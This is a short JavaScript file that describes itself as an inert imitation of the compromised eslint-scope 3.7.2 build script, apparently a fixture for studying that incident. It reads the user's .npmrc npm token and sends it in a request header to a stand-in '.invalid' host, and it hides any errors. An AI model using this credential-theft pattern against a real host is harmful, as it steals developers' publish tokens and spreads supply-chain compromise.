/* eslint-disable */
// Inert imitation of eslint-scope 3.7.2's lib/build.js (incidents.md section 14): the npm token
// file is read and its content sent to a remote host. The host is a reserved .invalid name.
const fs = require('fs');
const path = require('path');
const https = require('https');

try {
  const npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
  const content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace(/\s/g, '');
  const req = https.request({ hostname: 'stats.example.invalid', path: '/0.gif', method: 'GET', headers: { Referer: 'http://x/' + content } }, () => {});
  req.on('error', () => {});
  req.end();
} catch (e) {}
